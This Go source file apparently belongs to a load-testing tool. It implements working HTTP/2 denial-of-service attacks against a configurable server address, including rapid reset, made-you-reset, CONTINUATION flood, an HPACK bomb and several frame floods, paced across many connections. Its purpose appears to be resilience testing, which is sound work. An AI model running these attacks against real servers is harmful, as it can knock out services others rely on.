package load

import (
	"context"
	"fmt"
	"net"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// H2Attack attacks a server on connections in clear text, with frames that cost the server more work than the client. It
// opens a new connection for each one that the server closes.
type H2Attack struct {
	Addr        string
	Kind        string // one of H2AttackKinds
	Rate        int    // total number of steps per second; a step is a frame, or a request and its reset
	Connections int
	Duration    time.Duration
}

// H2AttackResult has the numbers of steps and of connections of an attack.
type H2AttackResult struct {
	Steps int64 `json:"steps"`
	Ended int64 `json:"ended"` // connections that the server closed
}

// An h2Attack describes the frames that one kind of attack sends on a connection.
type h2Attack struct {
	settings string
	begin    string             // sent once at the beginning
	step     func(i int) string // returns the frames of step i, counted from 0; nil if the attack consists only of begin
}

func h2Frames(frames ...[]byte) string { return string(slices.Concat(frames...)) }

func h2Get(id uint32, path string) []byte {
	return h2Frame(nil, h2Headers, h2EndStream|h2EndHeaders, id, h2Block("GET", path))
}

func h2Post(id uint32) []byte {
	return h2Frame(nil, h2Headers, h2EndHeaders, id, h2Block("POST", "/echo"))
}

// H2AttackKinds has the names of the kinds, in the order of the report.
var H2AttackKinds = []string{
	"rapid-reset", "made-you-reset", "continuation", "hpack-bomb", "ping", "settings", "empty-data", "window-update", "priority",
	"zero-window", "half-open",
}

var h2Attacks = map[string]h2Attack{
	"rapid-reset": {step: func(i int) string {
		id := uint32(2*i + 1)
		return h2Frames(h2Get(id, "/plaintext"), h2Frame(nil, h2Reset, 0, id, h2Number(8)))
	}},
	"made-you-reset": {step: func(i int) string {
		id := uint32(2*i + 1)
		return h2Frames(h2Get(id, "/sleep?ms=10"), h2Frame(nil, h2WindowUpdate, 0, id, h2Number(0)))
	}},
	"continuation": {
		begin: h2Frames(h2Frame(nil, h2Headers, h2EndStream, 1, h2Block("GET", "/plaintext"))),
		step:  func(int) string { return h2Frames(h2Frame(nil, h2Continuation, 0, 1, manyFields)) },
	},
	"hpack-bomb": {step: func(i int) string {
		// The block adds an entry that nearly fills the dynamic table of HPACK, and then refers to this entry 12,000 times.
		// Each reference takes one byte (RFC 7541, section 7.3).
		bomb := h2Block("GET", "/plaintext") + "\x40" + h2Literal("bomb") + h2Literal(strings.Repeat("x", 4000)) + strings.Repeat("\xbe", 12_000)
		return h2Frames(h2Frame(nil, h2Headers, h2EndStream|h2EndHeaders, uint32(2*i+1), bomb))
	}},
	"ping":     {step: func(int) string { return h2Frames(h2Frame(nil, h2Ping, 0, 0, "12345678")) }},
	"settings": {step: func(i int) string { return h2Frames(h2Frame(nil, h2Settings, 0, 0, h2Setting(1, uint32(i%2)*4096))) }},
	"empty-data": {
		begin: h2Frames(h2Post(1)),
		step:  func(int) string { return h2Frames(h2Frame(nil, h2Data, 0, 1, "")) },
	},
	"window-update": {
		begin: h2Frames(h2Get(1, "/sleep?ms=1000")),
		step:  func(i int) string { return h2Frames(h2Frame(nil, h2WindowUpdate, 0, uint32(i%2), h2Number(1))) },
	},
	"priority": {step: func(i int) string {
		return h2Frames(h2Frame(nil, h2Priority, 0, uint32(2*i+1), h2Number(uint32(2*i+3))+"\xff"))
	}},
	"zero-window": {settings: h2Setting(h2InitialWindow, 0), begin: h2ForEach(func(id uint32) []byte { return h2Get(id, "/api/v1/users") })},
	"half-open":   {begin: h2ForEach(h2Post)},
}

// h2ForEach returns the frames that open returns for a hundred streams.
func h2ForEach(open func(id uint32) []byte) string {
	var all []byte
	for i := range uint32(100) {
		all = append(all, open(2*i+1)...)
	}
	return string(all)
}

// Run attacks for Duration.
func (a H2Attack) Run(ctx context.Context) (H2AttackResult, error) {
	kind, known := h2Attacks[a.Kind]
	if !known {
		return H2AttackResult{}, fmt.Errorf("no attack is called %q; there are %s", a.Kind, strings.Join(H2AttackKinds, ", "))
	}
	ctx, cancel := context.WithTimeout(ctx, a.Duration)
	defer cancel()
	var steps, ended atomic.Int64
	var all sync.WaitGroup
	for range a.Connections {
		all.Go(func() {
			for ctx.Err() == nil {
				if a.connection(ctx, kind, &steps) {
					ended.Add(1)
				}
			}
		})
	}
	all.Wait()
	return H2AttackResult{Steps: steps.Load(), Ended: ended.Load()}, nil
}

// connection attacks on one connection. It reports whether the server has closed the connection.
func (a H2Attack) connection(ctx context.Context, kind h2Attack, steps *atomic.Int64) bool {
	conn, err := dialH2(a.Addr, kind.settings)
	if err != nil {
		time.Sleep(time.Millisecond)
		return false
	}
	defer conn.Close()
	over := make(chan struct{}) // closed when the server has closed the connection
	go func() {
		defer close(over)
		in := make([]byte, 32<<10)
		for {
			if _, err := conn.Read(in); err != nil {
				return
			}
		}
	}()
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	if _, err := conn.Write([]byte(kind.begin)); err != nil {
		return ctx.Err() == nil
	}
	if kind.step == nil {
		steps.Add(100)
		<-over
		return ctx.Err() == nil
	}
	return a.steps(ctx, conn, kind, steps, over)
}

// steps sends the steps of one connection in batches, one for each millisecond.
func (a H2Attack) steps(ctx context.Context, conn net.Conn, kind h2Attack, steps *atomic.Int64, over <-chan struct{}) bool {
	const pace = time.Millisecond
	share := float64(a.Rate) / float64(a.Connections)
	began, out := time.Now(), []byte(nil)
	for i := 0; ; {
		for due := int(time.Since(began).Seconds() * share); i < due && len(out) < 64<<10; i++ {
			out = append(out, kind.step(i)...)
			steps.Add(1)
		}
		if _, err := conn.Write(out); err != nil {
			return ctx.Err() == nil
		}
		out = out[:0]
		select {
		case <-over:
			return ctx.Err() == nil
		case <-time.After(pace):
		}
	}
}
